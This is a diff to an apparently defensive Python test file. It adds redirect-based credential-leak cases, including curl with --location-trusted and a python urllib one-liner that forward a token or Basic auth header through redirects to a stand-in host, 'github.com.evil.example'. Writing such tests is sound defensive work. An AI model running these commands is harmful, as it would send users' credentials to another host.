@@ -208,6 +208,11 @@ ELSEWHERE_TOO = "github.com.evil.example"
 # Each tries to have the token, or what stands for it, sent to another host or in the clear.
 LED_AWAY = {
     "a redirect": 'curl -sL --location-trusted -u "$PAIR" https://github.com/redirect',
+    "a redirect of a POST": 'curl -sL --location-trusted -d "$PAIR" -u "$PAIR" https://github.com/redirect/kept',
+    "a redirect that a client follows with all fields": (
+        "python3 -c 'import sys, urllib.request as u; u.urlopen(u.Request(sys.argv[1], headers="
+        '{"Authorization": "Basic " + sys.argv[2]}))\' https://github.com/redirect "$BASIC"'
+    ),
     "a redirect of git": f"git -c http.followRedirects=true ls-remote https://github.com/redirect/{REPOSITORY}",
     "fields of its own": (
         f'git -c "http.extraHeader=Authorization: Basic $BASIC" ls-remote https://{ELSEWHERE}/r'
@@ -240,7 +245,8 @@ def test_the_token_is_led_nowhere_else(attack: str) -> None:
         request.read_body()
         if host == b"github.com" and request.target.startswith(b"/redirect"):
             away = f"https://{ELSEWHERE}{request.target.decode()}"
-            request.connection.respond(302, b"", [("Location", away)])
+            kept = request.target == b"/redirect/kept"
+            request.connection.respond(307 if kept else 302, b"", [("Location", away)])
         else:
             request.connection.respond(200, b"ok\n")
 
